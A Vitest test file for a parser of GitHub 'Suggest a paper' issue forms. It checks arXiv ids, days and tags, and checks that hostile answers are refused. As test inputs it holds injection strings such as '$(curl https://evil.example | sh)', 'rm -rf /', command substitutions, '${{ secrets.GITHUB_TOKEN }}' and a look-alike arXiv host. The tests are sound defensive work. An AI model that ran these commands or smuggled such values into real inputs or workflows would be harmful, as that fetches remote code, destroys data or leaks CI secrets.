import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import {
  MAX_SUGGESTION_LENGTH,
  parseSuggestionForm,
  SUGGESTION_FORM_LABELS,
} from "../../../src/lib/authoring/suggestion-form.ts";

/** A body as GitHub writes it for the form, with the given answers ("" for a field left empty). */
function formBody(answers: { paper?: string; day?: string; tags?: string; why?: string }): string {
  const answer = (value: string | undefined) => (value ? value : "_No response_");
  return [
    `### ${SUGGESTION_FORM_LABELS.paper}`,
    "",
    answers.paper ?? "2307.03381",
    "",
    `### ${SUGGESTION_FORM_LABELS.day}`,
    "",
    answer(answers.day),
    "",
    `### ${SUGGESTION_FORM_LABELS.tags}`,
    "",
    answer(answers.tags),
    "",
    `### ${SUGGESTION_FORM_LABELS.why}`,
    "",
    answer(answers.why),
    "",
    `### ${SUGGESTION_FORM_LABELS.checks}`,
    "",
    "- [X] I searched the site and the open issues, and this paper is not there yet.",
  ].join("\n");
}

const problemsOf = (body: string | null | undefined) => {
  const result = parseSuggestionForm(body);
  if (result.ok) throw new Error(`expected problems, got ${JSON.stringify(result.suggestion)}`);
  return result.problems;
};

describe("parseSuggestionForm", () => {
  it("reads the labels of the issue form itself", () => {
    const form = parse(
      readFileSync(
        new URL("../../../.github/ISSUE_TEMPLATE/suggest-a-paper.yml", import.meta.url),
        "utf8",
      ),
    ) as { body: { id?: string; attributes: { label?: string } }[] };
    const labels = Object.fromEntries(
      form.body.flatMap((item) => (item.id ? [[item.id, item.attributes.label]] : [])),
    );
    expect(labels).toEqual(SUGGESTION_FORM_LABELS);
  });

  it.each([
    ["a bare id", { paper: "2307.03381" }, { arxiv: "2307.03381", tags: [] }],
    ["an id with version", { paper: "arXiv:2307.03381v2" }, { arxiv: "2307.03381v2", tags: [] }],
    [
      "an abs link",
      { paper: "https://arxiv.org/abs/2307.03381" },
      { arxiv: "2307.03381", tags: [] },
    ],
    [
      "a pdf link",
      { paper: "https://arxiv.org/pdf/2307.03381v1" },
      { arxiv: "2307.03381v1", tags: [] },
    ],
    ["an old-style id", { paper: "hep-th/9711200" }, { arxiv: "hep-th/9711200", tags: [] }],
    [
      "a day and tags",
      { paper: "2307.03381", day: "2025-07-31", tags: "multimodal, robotics ,cs-cv" },
      { arxiv: "2307.03381", day: "2025-07-31", tags: ["multimodal", "robotics", "cs-cv"] },
    ],
    [
      "hostile text where it is not read",
      {
        why: "$(curl evil.sh | sh) `rm -rf /` ${{ github.token }} \"' \n### Not a heading\n@everyone",
      },
      { arxiv: "2307.03381", tags: [] },
    ],
  ])("accepts %s", (_, answers, expected) => {
    expect(parseSuggestionForm(formBody(answers))).toEqual({ ok: true, suggestion: expected });
  });

  it("reads a body written with CRLF line ends", () => {
    const body = formBody({ day: "2025-07-31" }).replaceAll("\n", "\r\n");
    expect(parseSuggestionForm(body)).toEqual({
      ok: true,
      suggestion: { arxiv: "2307.03381", day: "2025-07-31", tags: [] },
    });
  });

  const notAnId =
    'The "arXiv id or link" answer is not an arXiv id or arxiv.org link: write it like 2307.03381, arXiv:2307.03381v2 or https://arxiv.org/abs/2307.03381.';
  const notOneLine = (label: string) => `The "${label}" answer must be one line of plain text.`;
  const notADay =
    'The "Feed day" answer is not a day written YYYY-MM-DD, such as 2025-07-31: leave it empty for the day the paper is added.';

  // Each hostile answer is refused with a message that does not repeat it.
  it.each([
    ["a command substitution", { paper: "$(curl https://evil.example | sh)" }, [notAnId]],
    ["backticks", { paper: "`id`" }, [notAnId]],
    ["an id followed by a command", { paper: "2307.03381; rm -rf /" }, [notAnId]],
    ["an id followed by a substitution", { paper: "2307.03381$(id)" }, [notAnId]],
    ["quotes", { paper: '2307.03381" --force "' }, [notAnId]],
    ["a workflow expression", { paper: "${{ secrets.GITHUB_TOKEN }}" }, [notAnId]],
    ["an option", { paper: "--force" }, [notAnId]],
    ["a second line", { paper: "2307.03381\n--force" }, [notOneLine("arXiv id or link")]],
    ["a tab", { paper: "2307.03381\t--force" }, [notOneLine("arXiv id or link")]],
    ["a NUL", { paper: "2307.03381\u0000" }, [notOneLine("arXiv id or link")]],
    [
      "a link outside arXiv",
      { paper: "https://example.org/paper.pdf" },
      [
        'The "arXiv id or link" answer is a link outside arXiv: only arXiv papers are added automatically, so a maintainer will read your suggestion.',
      ],
    ],
    [
      "a look-alike host",
      { paper: "https://arxiv.org.evil.example/abs/2307.03381" },
      [
        'The "arXiv id or link" answer is a link outside arXiv: only arXiv papers are added automatically, so a maintainer will read your suggestion.',
      ],
    ],
    [
      "an empty paper",
      { paper: "_No response_" },
      ['The "arXiv id or link" answer is empty: give an arXiv id such as 2307.03381.'],
    ],
    [
      "a very long paper answer",
      { paper: "2307.03381".repeat(40) },
      ['The "arXiv id or link" answer is longer than 300 characters.'],
    ],
    ["a day in another format", { day: "31/07/2025" }, [notADay]],
    ["a day that does not exist", { day: "2025-02-30" }, [notADay]],
    ["a day with a command", { day: "$(date)" }, [notADay]],
    ["a day with a newline", { day: "2025-07-31\n--force" }, [notOneLine("Feed day")]],
    [
      "a tag in capitals",
      { tags: "multimodal, Robotics" },
      [
        'Tag 2 of the "Tags" answer must be a lowercase kebab-case word, e.g. "computer-vision"; separate tags with commas, e.g. multimodal, robotics.',
      ],
    ],
    [
      "a tag with a substitution",
      { tags: "$(id)" },
      [
        'Tag 1 of the "Tags" answer must be a lowercase kebab-case word, e.g. "computer-vision"; separate tags with commas, e.g. multimodal, robotics.',
      ],
    ],
    [
      "a tag given twice",
      { tags: "robotics, robotics" },
      [
        'The "Tags" answer must not list a tag twice; separate tags with commas, e.g. multimodal, robotics.',
      ],
    ],
    [
      "everything wrong at once",
      { paper: "`id`", day: "tomorrow", tags: "A B" },
      [
        notAnId,
        notADay,
        'Tag 1 of the "Tags" answer must be a lowercase kebab-case word, e.g. "computer-vision"; separate tags with commas, e.g. multimodal, robotics.',
      ],
    ],
  ])("refuses %s", (_, answers, expected) => {
    expect(problemsOf(formBody(answers))).toEqual(expected);
  });

  it.each([
    ["no body", null, ['The issue has no text. Please open it with the "Suggest a paper" form.']],
    [
      "an empty body",
      "  \n ",
      ['The issue has no text. Please open it with the "Suggest a paper" form.'],
    ],
    [
      "free text",
      "Please add 2307.03381, thanks!",
      [
        'The issue does not read as the "Suggest a paper" form: it must start with the "arXiv id or link" question.',
      ],
    ],
    [
      "text before the form",
      `hello\n${formBody({})}`,
      [
        'The issue does not read as the "Suggest a paper" form: it must start with the "arXiv id or link" question.',
      ],
    ],
    [
      "a question asked twice",
      `${formBody({})}\n\n### Tags\n\nrobotics`,
      ['The form\'s "Tags" section appears twice. Please keep one answer for each question.'],
    ],
    [
      "the paper question missing",
      "### Tags\n\nrobotics",
      ['The form\'s "arXiv id or link" section is missing. Please use the "Suggest a paper" form.'],
    ],
    [
      "a megabyte of text",
      formBody({ why: "$(x)`y`".repeat(150_000) }),
      [
        `The issue is ${(1_050_000 + formBody({}).length - "_No response_".length).toLocaleString("en-US")} characters long; the form's answers fit in 20,000. Please open it again with the "Suggest a paper" form.`,
      ],
    ],
  ])("fails politely on %s", (_, body, expected) => {
    expect(problemsOf(body)).toEqual(expected);
  });

  it("reads a body just within the length it accepts", () => {
    const body = formBody({ why: "x" });
    const padded = body.replace("x", "x".repeat(MAX_SUGGESTION_LENGTH - body.length + 1));
    expect(padded.length).toBe(MAX_SUGGESTION_LENGTH);
    expect(parseSuggestionForm(padded).ok).toBe(true);
    expect(parseSuggestionForm(`${padded} `).ok).toBe(false);
  });
});
